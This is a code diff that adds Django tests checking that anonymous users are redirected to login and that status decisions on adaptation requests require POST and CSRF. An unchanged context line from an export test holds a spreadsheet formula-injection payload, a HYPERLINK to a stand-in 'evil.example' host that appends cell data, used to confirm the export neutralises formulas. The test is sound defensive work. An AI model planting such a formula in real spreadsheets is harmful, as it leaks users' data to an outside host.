@@ -9,6 +9,7 @@ import openpyxl
 import pytest
 from django.contrib.auth.models import Group
 from django.core import mail
+from django.test import Client
 from django.urls import reverse
 from wagtail.models import Locale, Page
 
@@ -217,3 +218,27 @@ def test_the_export_neutralises_spreadsheet_formulas(as_user, make_request):
     values = [cell.value for cell in sheet[2]]
     assert all(cell.data_type != "f" for cell in sheet[2])  # no formula cell
     assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in values
+
+
+def test_anonymous_visitors_are_sent_to_sign_in_and_decide_nothing(client, make_request):
+    adaptation = make_request()
+    for url in (reverse(INDEX), reverse(INSPECT, args=[adaptation.pk])):
+        response = client.get(url)
+        assert response.status_code == 302 and "/login/" in response.url
+    response = client.post(action_url("change_status", adaptation), {"status": "declined"})
+    assert response.status_code == 302 and "/login/" in response.url
+    adaptation.refresh_from_db()
+    assert adaptation.status == AdaptationRequest.NEW
+
+
+def test_a_decision_needs_post_and_csrf(user, make_request):
+    adaptation = make_request()
+    client = Client(enforce_csrf_checks=True)
+    client.force_login(user("administrador"))
+    assert client.get(action_url("change_status", adaptation)).status_code == 405
+    response = client.post(
+        action_url("change_status", adaptation), {"status": "declined", "note": "No"}
+    )
+    assert response.status_code == 403
+    adaptation.refresh_from_db()
+    assert adaptation.status == AdaptationRequest.NEW and not adaptation.changes.exists()
